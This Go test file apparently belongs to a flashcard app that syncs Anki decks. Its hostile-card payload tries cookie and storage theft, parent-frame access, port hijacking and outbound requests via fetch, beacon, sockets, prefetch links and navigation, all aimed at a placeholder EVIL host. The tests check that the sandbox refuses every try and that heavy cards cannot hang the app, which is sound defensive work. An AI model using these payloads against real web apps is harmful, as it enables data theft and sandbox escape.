package apptest_test

import (
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cardferry/cardferry/hostrunner/anki"
	"github.com/cardferry/cardferry/hostrunner/apptest"
	"github.com/cardferry/cardferry/hostrunner/browsertest"
)

// attack is what a hostile card tries; EVIL is an address that it wants to reach. Each try says what came of it.
const attack = `<p>a harmless card</p><img src="EVILimage"><link rel="stylesheet" href="EVILstyle"><style>p { background: url("EVILcss") }</style>
<iframe src="EVILframe"></iframe><object data="EVILobject"></object><form action="EVILform"><input name="x"></form>
<img src="x" onerror="window.handlerRan = true"><meta http-equiv="refresh" content="1;url=EVILrefresh">
<script>
window.tries = {};
(async () => {
  const attempt = async (name, f) => {
    try { const v = await f(); window.tries[name] = v === undefined ? "done" : String(v); } catch (e) { window.tries[name] = "refused"; }
  };
  const load = (e) => new Promise((r) => { e.onload = () => r("done"); e.onerror = () => r("refused"); document.body.append(e); setTimeout(r, 1000, "refused"); });
  await attempt("parent", () => parent.document.title);
  await attempt("app", () => top.document.body.innerHTML);
  await attempt("change the app", () => { top.location = "EVILtop"; });
  await attempt("storage", () => localStorage.length);
  await attempt("cookies", () => document.cookie);
  await attempt("files", () => navigator.storage.getDirectory());
  await attempt("database", () => new Promise((r, n) => { const q = indexedDB.open("cardferry"); q.onsuccess = r; q.onerror = n; }));
  await attempt("cache", () => caches.keys());
  await attempt("service worker", () => navigator.serviceWorker.register("EVILsw"));
  await attempt("fetch", () => fetch("EVILfetch"));
  await attempt("fetch app", () => fetch("/"));
  await attempt("beacon", () => { navigator.sendBeacon("EVILbeacon"); return Promise.reject(); }); // it says yes, and is stopped later
  await attempt("socket", () => new Promise((r, n) => { const s = new WebSocket("EVIL".replace("http", "ws")); s.onopen = r; s.onerror = n; }));
  await attempt("events", () => new Promise((r, n) => { const s = new EventSource("EVILevents"); s.onopen = r; s.onerror = n; }));
  await attempt("image", () => load(Object.assign(new Image(), { src: "EVILnew" })).then((v) => v === "refused" ? Promise.reject() : v));
  await attempt("script", () => load(Object.assign(document.createElement("script"), { src: "EVILscript" })).then((v) => v === "refused" ? Promise.reject() : v));
  await attempt("worker", () => new Promise((r, n) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = r; w.onerror = n; }));
  await attempt("window", () => open("EVILwindow") ?? Promise.reject());
  await attempt("webrtc", () => new RTCPeerConnection());
  await attempt("webrtc of a frame", () => new Promise((r, n) => {
    const f = document.createElement("iframe");
    f.srcdoc = "<script>parent.postMessage(String(new RTCPeerConnection()), '*')</scr" + "ipt>";
    addEventListener("message", (e) => r(e.data));
    document.body.append(f);
    setTimeout(n, 1000);
  }));
  await attempt("webrtc of a shadow", () => document.body.attachShadow({ mode: "open" }));
  await attempt("form", () => { document.forms[0].submit(); return Promise.reject(); });
  await attempt("the app's port", () => { MessagePort.prototype.postMessage = function () { window.stolen = this; }; document.body.click(); return window.stolen ? "stolen" : Promise.reject(); });
  await attempt("keys", () => { for (const key of ["Enter", "3", "u"]) dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true })); return Promise.reject(); });
  const link = (rel) => '<link rel="' + rel + '" href="EVILlink">';
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload"]) await attempt(rel, () => {
    const box = document.createElement("div"), range = document.createRange();
    for (const e of [document.createElement("link"), document.createElement("LINK"), document.createElementNS("http://www.w3.org/1999/xhtml", "h:link"),
      document.implementation.createHTMLDocument().createElement({ toString() { return this.n++ ? "link" : "p"; }, n: 0 })]) {
      e.setAttribute("rel", rel); e.setAttribute("href", "EVILlink"); document.head.append(document.adoptNode(e));
    }
    document.head.append(box);
    box.innerHTML = link(rel); box.insertAdjacentHTML("beforeend", link(rel).toUpperCase().replace("LINK", "link")); box.append(range.createContextualFragment(link(rel)));
    document.execCommand("insertHTML", false, link(rel));
    try { customElements.define("x-" + rel, class extends HTMLLinkElement {}, { extends: "link" }); box.append(document.createElement("link", { is: "x-" + rel })); } catch { }
    return document.querySelector("link") ? "made" : Promise.reject();
  });
  await attempt("speculation", () => { document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["EVILguess"] }], prerender: [{ source: "list", urls: ["EVILguess"] }] }) })); return Promise.reject(); });
  await attempt("a new document", async () => {
    location.href = "javascript:'<p>a new document</p><iframe></iframe>'";
    await new Promise((r) => setTimeout(r, 500));
    return document.body.innerText.includes("harmless") ? Promise.reject() : "done";
  });
  await attempt("parsers", () => new DOMParser().parseFromString('<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preconnect" href="EVILlink"/>', "text/xml").querySelector("link") ?? Promise.reject());
  await attempt("opener", () => opener ?? Promise.reject());
  await attempt("forged messages", () => {
    const { port1, port2 } = new MessageChannel();
    for (const to of [parent, top, self]) for (const type of ["key", "typed", "port", "shown", "call"]) to.postMessage({ type, key: "3", id: 1, name: "logout", params: null }, "*");
    dispatchEvent(new MessageEvent("message", { data: { type: "port" }, ports: [port1] }));
    return new Promise((r, n) => { port2.onmessage = () => r("answered"); setTimeout(n, 300); });
  });
  await attempt("download", () => { Object.assign(document.createElement("a"), { href: "data:text/plain,x", download: "x" }).click(); return Promise.reject(); });
  await attempt("dialog", () => { alert("x"); return confirm("x") ? "agreed" : Promise.reject(); });
  window.finished = true;
})();
</script>`

// leave has a card go to other addresses.
const leave = `setTimeout(() => {
	const link = Object.assign(document.createElement("a"), { href: "EVILclicked", textContent: "x", ping: "EVILping" });
	document.body.append(link);
	link.click();
	const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=EVILlater" });
	document.head.append(meta);
	navigation.navigate("EVILnavigated").finished.catch(() => {});
	location.replace("EVILreplaced");
	location = "EVILself?all=of+it";
})`

// TestHostileCards: a card from a stranger's deck runs its scripts, but reaches neither the app nor the network, and cannot answer itself.
func TestHostileCards(t *testing.T) {
	var hits, requests atomic.Int64
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		t.Logf("a card has reached %s", r.URL)
		requests.Add(1)
	}))
	evil.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			hits.Add(1) // a connection tells something, even without a request
		}
	}
	evil.Start()
	defer evil.Close()
	s := apptest.Serve(t)
	s.SignUp(t)
	desktop := apptest.NewDesktop(t, s)
	html := strings.ReplaceAll(attack, "EVIL", evil.URL+"/")
	desktop.Do(t, "add_note", anki.Args{"fields": []string{html, "back"}}, nil)
	desktop.Upload(t)

	a := apptest.Open(t, browsertest.Start(t), s.URL)
	a.Expects("Framing")
	a.Expects("Executing inline event handler violates") // said also of what the editor has parsed apart from the page
	a.Size(t, 360, 780, false)
	signIn(t, a)
	a.Tap(t, "Fetch my decks")
	a.Tap(t, "Study Default")
	a.ReadCard(t, "a harmless card")
	type result struct {
		Tries             map[string]string
		Finished, Handler bool
		Origin            string
	}
	var r result
	for end := time.Now().Add(2 * time.Minute); !r.Finished; {
		if time.Now().After(end) {
			t.Fatalf("the card has not come to its end: %v", r.Tries)
		}
		r = apptest.Card[result](t, a, `await new Promise((r) => setTimeout(r, 200));
			return { Tries: window.tries ?? {}, Finished: window.finished === true, Handler: window.handlerRan === true, Origin: self.origin }`)
	}
	if r.Origin != "null" {
		t.Errorf("a card has the origin %s", r.Origin)
	}
	for name, outcome := range r.Tries {
		if outcome != "refused" {
			t.Errorf("%s: %s", name, outcome)
		}
	}
	if len(r.Tries) < 35 {
		t.Errorf("only %d tries were made", len(r.Tries))
	}
	a.Read(t, "Show answer") // the invented keys did nothing
	if n := hits.Load(); n != 0 {
		t.Errorf("cards have made %d connections", n)
	}
	// A card that goes elsewhere, in each way there is, is stopped before Chromium connects.
	apptest.Card[any](t, a, strings.ReplaceAll(leave, "EVIL", evil.URL+"/"))
	a.Wait(t, `new Promise((r) => setTimeout(r, 2000, true))`)
	a.Tap(t, "Show answer")
	a.ReadCard(t, "back")
	if hits.Load() != 0 || requests.Load() != 0 {
		t.Errorf("cards that go elsewhere have made %d connections, %d requests", hits.Load(), requests.Load())
	}

	// The editor and the list show the same note, in the app's own page.
	a.Go(t, "#/browse")
	a.Tap(t, "a harmless card")
	a.Read(t, "edited as HTML")
	var ran bool
	a.Run(t, &ran, `return "tries" in window || "handlerRan" in window`)
	if n := requests.Load(); ran || n != 0 {
		t.Errorf("the editor has run scripts (%v) or made %d requests", ran, n)
	}
}

// TestHeavyCards: a card with far too much in it, and one whose script never ends, leave the app usable, and the next card is shown.
func TestHeavyCards(t *testing.T) {
	s := apptest.Serve(t)
	s.SignUp(t)
	desktop := apptest.NewDesktop(t, s)
	for _, front := range []string{
		`a large card<script>for (let i = 0; i < 100000; i++) document.body.append(document.createElement("p"))</script>`,
		`an endless card<script>for (;;) {}</script>`, `a calm card`,
	} {
		desktop.Do(t, "add_note", anki.Args{"fields": []string{front, "back"}}, nil)
	}
	desktop.Upload(t)
	a := apptest.Open(t, browsertest.Start(t), s.URL)
	a.Size(t, 360, 780, false)
	signIn(t, a)
	a.Tap(t, "Fetch my decks")
	a.Tap(t, "Study Default")
	a.ReadCard(t, "a large card")
	for range 2 {
		a.Tap(t, "Show answer")
		a.Tap(t, "Easy")
		a.Wait(t, `all(".grades").length === 0`)
	}
	a.ReadCard(t, "a calm card")
	a.Tap(t, "Back to the decks")
	a.Read(t, "Study Default")
}
